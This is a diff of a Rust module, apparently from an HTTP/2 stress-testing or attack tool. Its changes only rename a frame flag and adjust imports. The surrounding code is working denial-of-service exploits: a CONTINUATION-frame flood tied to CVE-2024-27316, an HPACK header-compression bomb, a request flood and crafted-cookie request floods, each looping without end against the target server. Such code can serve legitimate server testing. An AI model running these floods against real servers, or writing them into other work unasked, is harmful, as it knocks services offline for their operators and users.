@@ -2,14 +2,15 @@
 
 use std::sync::Arc;
 
-use crate::frames::{CONTINUATION, END_HEADERS, END_STREAM, HEADERS, block, field, frame, greeting, integer};
-use crate::stage::{Stage, attack};
+use super::frames::{CONTINUATION, END, END_HEADERS, HEADERS, block, field, frame, greeting, integer};
+use super::stage::Stage;
+use super::wire::attack;
 
 /// CVE-2024-27316 and its kin: a head that goes on in CONTINUATION frames without end.
 pub(crate) async fn continuation(stage: &Arc<Stage>, payload: Vec<u8>) {
     let batch = frame(CONTINUATION, 0, 1, &payload).repeat(20);
     attack(stage, 4, true, greeting(&[]), async |wire| {
-        wire.send(&frame(HEADERS, END_STREAM, 1, &block("GET", "/", &[]))).await?;
+        wire.send(&frame(HEADERS, END, 1, &block("GET", "/", &[]))).await?;
         loop {
             wire.send(&batch).await?;
         }
@@ -33,7 +34,7 @@ async fn requests(stage: &Arc<Stage>, fields: Vec<u8>) {
     attack(stage, 4, true, greeting(&[]), async |wire| {
         let mut stream = 1;
         loop {
-            let flags = if block.len() > 16_000 { END_STREAM } else { END_STREAM | END_HEADERS };
+            let flags = if block.len() > 16_000 { END } else { END | END_HEADERS };
             for _ in 0..20 {
                 let mut frames = frame(HEADERS, flags, stream, &block[..block.len().min(16_000)]);
                 if let Some(rest) = block.get(16_000..) {
@@ -74,12 +75,12 @@ pub(crate) async fn bomb(stage: &Arc<Stage>, times: usize) {
         integer(&mut entry, 4000);
         entry.extend([b'v'; 4000]);
         let first = [block("GET", "/small.png", &[]), entry].concat();
-        wire.send(&frame(HEADERS, END_STREAM | END_HEADERS, 1, &first)).await?;
+        wire.send(&frame(HEADERS, END | END_HEADERS, 1, &first)).await?;
         let block = [block("GET", "/small.png", &[]), vec![0xbe; times]].concat();
         let mut stream = 3;
         loop {
             let batch: Vec<u8> =
-                (0..20).flat_map(|n| frame(HEADERS, END_STREAM | END_HEADERS, stream + 2 * n, &block)).collect();
+                (0..20).flat_map(|n| frame(HEADERS, END | END_HEADERS, stream + 2 * n, &block)).collect();
             wire.send(&batch).await?;
             stream += 40;
             let last = stream - 2;
@@ -108,7 +109,7 @@ pub(crate) async fn crafted_cookies(stage: &Arc<Stage>) {
                     .collect();
                 let cookie = format!("__Host-headstart={value}");
                 let fields = [("cookie", &*cookie), ("sec-fetch-mode", "navigate"), ("sec-fetch-dest", "document")];
-                batch.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, &block("GET", "/", &fields)));
+                batch.extend(frame(HEADERS, END | END_HEADERS, stream, &block("GET", "/", &fields)));
                 stream += 2;
             }
             wire.send(&batch).await?;
